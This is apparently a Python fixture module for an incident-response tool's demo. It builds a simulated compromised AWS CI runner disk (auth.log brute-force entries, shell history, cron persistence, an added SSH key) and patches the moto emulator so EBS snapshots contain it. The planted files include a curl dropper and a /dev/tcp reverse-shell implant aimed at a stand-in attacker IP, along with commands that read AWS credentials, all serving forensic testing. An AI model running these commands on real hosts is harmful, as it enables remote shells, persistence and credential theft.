"""The demo's compromised EC2 instance: the CI runner the access key leaked from.

Its disk is a small ext4 file system (made with `mkfs.ext4 -d`) holding what an intruder
leaves on a Linux host: a password-guessing run and a login in auth.log, a shell history
that reads the CI key and plants persistence, a cron entry, an added SSH key, a dropped
binary. The times line up with the CloudTrail story, which starts where this ends.

moto keeps no volume contents, and serves blocks only for snapshots written through the
EBS direct APIs. `VolumeContents` gives the emulator what AWS has: every snapshot taken
of the instance's volume holds the disk's blocks, as a 512 KiB-block EBS snapshot. cloudir
then snapshots and downloads it with exactly the calls it makes against AWS.
"""

from __future__ import annotations

import base64
import hashlib
import os
import shutil
import subprocess
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any
from unittest.mock import patch

HOSTNAME = "ci-runner-1"
DISK_MIB = 48
VOLUME_GIB = 1
AWS_BLOCK_SIZE = 512 * 1024
INSTANCE_PROFILE = "ci-runner"
SECURITY_GROUP = "ci-runner-ssh"


def build_disk(work: Path, intrusion: datetime, attacker_ip: str, leaked_key: str) -> Path | None:
    """The runner's file system as an ext4 image, or None when mkfs.ext4 is missing."""
    mkfs = shutil.which("mkfs.ext4") or shutil.which("mkfs.ext4", path="/usr/sbin:/sbin")
    if mkfs is None:
        return None
    root = work / "rootfs"
    _write_tree(root, intrusion, attacker_ip, leaked_key)
    image = work / "disk.ext4"
    subprocess.run(
        [mkfs, "-q", "-F", "-L", HOSTNAME, "-d", str(root), str(image), f"{DISK_MIB}M"],
        check=True,
        capture_output=True,
        env={**os.environ, "E2FSPROGS_FAKE_TIME": str(int(intrusion.timestamp()))},
    )
    return image


def _write_tree(root: Path, t0: datetime, ip: str, key_id: str) -> None:
    """The files, each with the modification time the intruder's actions gave it."""

    def at(minutes: float) -> datetime:
        return t0 + timedelta(minutes=minutes)

    def syslog(minutes: float, text: str) -> str:
        return f"{at(minutes):%b %e %H:%M:%S} {HOSTNAME} {text}\n"

    def put(rel: str, text: str, when: datetime, mode: int = 0o644) -> None:
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        path.chmod(mode)
        os.utime(path, (when.timestamp(), when.timestamp()))

    boot = t0 - timedelta(days=3)
    put("etc/hostname", f"{HOSTNAME}\n", boot)
    put(
        "etc/os-release",
        'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\n'
        "ID=ubuntu\nID_LIKE=debian\n",
        boot,
    )
    put(
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin\n"
        "ubuntu:x:1000:1000:Ubuntu:/home/ubuntu:/bin/bash\n"
        "deploy:x:1001:1001:CI deploy:/home/deploy:/bin/bash\n",
        boot,
    )
    put("etc/group", "root:x:0:\nsudo:x:27:ubuntu,deploy\nubuntu:x:1000:\ndeploy:x:1001:\n", boot)
    put(
        "etc/shadow",
        "root:*:19700:0:99999:7:::\ndeploy:$6$demo$hash:19700:0:99999:7:::\n",
        boot,
        0o640,
    )
    put(
        "home/deploy/.aws/credentials",
        f"[default]\naws_access_key_id = {key_id}\n"
        "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n",
        boot,
        0o600,
    )
    users = ["admin", "test", "oracle", "jenkins", "gitlab-runner", "ubuntu", "postgres",
             "git", "deploy", "ci", "build", "runner"]  # fmt: skip
    guesses = [
        syslog(-6 + n * 0.5, f"sshd[{2210 + n}]: Failed password for "
               f"{'' if user in ('ubuntu', 'deploy') else 'invalid user '}{user} "
               f"from {ip} port {51000 + n} ssh2")
        for n, user in enumerate(users)
    ]  # fmt: skip
    auth = [
        syslog(-60, "sshd[1801]: Accepted publickey for ubuntu from 198.51.100.10 port 40022 "
               "ssh2: ED25519 SHA256:Ci0RunnerKeyFingerprint"),
        *guesses,
        syslog(0, f"sshd[2231]: Accepted password for deploy from {ip} port 51240 ssh2"),
        syslog(0, "sshd[2231]: pam_unix(sshd:session): session opened for user deploy(uid=1001) "
               "by (uid=0)"),
        syslog(9, "sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; "
               "COMMAND=/usr/bin/cp /var/tmp/.cache/kworkerd /usr/local/bin/kworkerd"),
        syslog(14, "sshd[2231]: pam_unix(sshd:session): session closed for user deploy"),
        syslog(30, f"sshd[2290]: Accepted publickey for deploy from {ip} port 51302 ssh2: "
               "ED25519 SHA256:AttackerKeyFingerprint"),
    ]  # fmt: skip
    put("var/log/auth.log", "".join(auth), at(30), 0o640)
    history = [
        (1, "id"),
        (1.5, "cat ~/.aws/credentials"),
        (3, f"curl -s http://{ip}/k.sh -o /var/tmp/.cache/k.sh"),
        (3.5, "bash /var/tmp/.cache/k.sh"),
        (6, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA7tt0ck attacker@kali' "
            ">> ~/.ssh/authorized_keys"),
        (8, "(crontab -l; echo '*/5 * * * * /var/tmp/.cache/kworkerd') | crontab -"),
        (9, "sudo cp /var/tmp/.cache/kworkerd /usr/local/bin/kworkerd"),
        (13, "history -c"),
    ]  # fmt: skip
    lines = "".join(f"#{int(at(m).timestamp())}\n{cmd}\n" for m, cmd in history)
    put("home/deploy/.bash_history", lines, at(13), 0o600)
    put(
        "home/deploy/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINX169p2KxeV78w/8842mSm4rO+SS5FhwS4dpYvlfahu "
        "ci@build\n"
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA7tt0ck attacker@kali\n",
        at(6),
        0o600,
    )
    put("var/spool/cron/crontabs/deploy", "*/5 * * * * /var/tmp/.cache/kworkerd\n", at(8), 0o600)
    dropper = f"#!/bin/sh\ncurl -s http://{ip}/kworkerd -o /var/tmp/.cache/kworkerd\n"
    put("var/tmp/.cache/k.sh", dropper, at(3), 0o755)
    implant = f"#!/bin/sh\nexec /bin/sh -i >/dev/tcp/{ip}/4444 0>&1\n"
    put("var/tmp/.cache/kworkerd", implant, at(4), 0o755)
    put("usr/local/bin/kworkerd", implant, at(9), 0o755)
    cron = [syslog(10 + 5 * n, f"CRON[{3100 + n}]: (deploy) CMD (/var/tmp/.cache/kworkerd)")
            for n in range(4)]  # fmt: skip
    put("var/log/syslog", "".join(cron), at(25))
    put("etc/sysctl.conf", "net.ipv4.ip_forward=0\n", boot)
    put("etc/debian_version", "bookworm/sid\n", boot)
    for folder in ("bin", "usr/bin", "root", "tmp", "home/ubuntu", "run", "sys", "proc", "boot"):
        (root / folder).mkdir(parents=True, exist_ok=True)


def launch_instance(aws: Any) -> tuple[str, str]:
    """The runner as the account has it: profile, security group, one 1 GiB volume."""
    iam = aws.client("iam")
    ec2 = aws.client("ec2")
    iam.create_role(RoleName=INSTANCE_PROFILE, AssumeRolePolicyDocument="{}")
    iam.create_instance_profile(InstanceProfileName=INSTANCE_PROFILE)
    iam.add_role_to_instance_profile(
        InstanceProfileName=INSTANCE_PROFILE, RoleName=INSTANCE_PROFILE
    )
    group = ec2.create_security_group(GroupName=SECURITY_GROUP, Description="ssh for CI")
    ec2.authorize_security_group_ingress(
        GroupId=group["GroupId"], IpProtocol="tcp", FromPort=22, ToPort=22, CidrIp="0.0.0.0/0"
    )
    image_id = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
    reservation = ec2.run_instances(
        ImageId=image_id,
        InstanceType="t3.small",
        MinCount=1,
        MaxCount=1,
        SecurityGroupIds=[group["GroupId"]],
        IamInstanceProfile={"Name": INSTANCE_PROFILE},
        BlockDeviceMappings=[{"DeviceName": "/dev/xvda", "Ebs": {"VolumeSize": VOLUME_GIB}}],
        TagSpecifications=[
            {"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": HOSTNAME}]}
        ],
    )
    instance_id = reservation["Instances"][0]["InstanceId"]
    described = ec2.describe_instances(InstanceIds=[instance_id])
    [instance] = described["Reservations"][0]["Instances"]
    volume_id = instance["BlockDeviceMappings"][0]["Ebs"]["VolumeId"]
    return instance_id, volume_id


class VolumeContents:
    """Makes moto's snapshots of one volume hold the disk image's blocks, as AWS's would.

    Only the emulator's state changes; cloudir's requests go over HTTP as against AWS.
    """

    def __init__(self, account_id: str, region: str, volume_id: str, image: Path) -> None:
        from moto.ebs.models import ebs_backends
        from moto.ec2.models import ec2_backends

        self.volume_id = volume_id
        self.image = image
        self.ec2 = ec2_backends[account_id][region]
        self.ebs = ebs_backends[account_id][region]
        self.account_id = account_id
        self._create_snapshot = self.ec2.create_snapshot
        # patch.object, not assignment: it swaps a method on this one backend and takes the
        # swap away on exit, where assigning over a method is what a type checker refuses.
        self._patched = patch.object(self.ec2, "create_snapshot", self._snapshot_with_blocks)

    def __enter__(self) -> VolumeContents:
        self._patched.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._patched.stop()

    def _snapshot_with_blocks(self, volume_id: str, *args: Any, **kwargs: Any) -> Any:
        from moto.ebs.models import EBSSnapshot

        snapshot = self._create_snapshot(volume_id, *args, **kwargs)
        if volume_id != self.volume_id:
            return snapshot
        blocks = EBSSnapshot(account_id=self.account_id, snapshot=snapshot)
        blocks.block_size = AWS_BLOCK_SIZE
        blocks.status = "completed"
        with open(self.image, "rb") as disk:
            index = 0
            while data := disk.read(AWS_BLOCK_SIZE):
                data = data.ljust(AWS_BLOCK_SIZE, b"\0")
                if any(data):  # AWS stores no block that was never written
                    checksum = base64.b64encode(hashlib.sha256(data).digest()).decode()
                    blocks.put_block(index, data, checksum, "SHA256", len(data))
                index += 1
        self.ebs.snapshots[snapshot.id] = blocks
        return snapshot
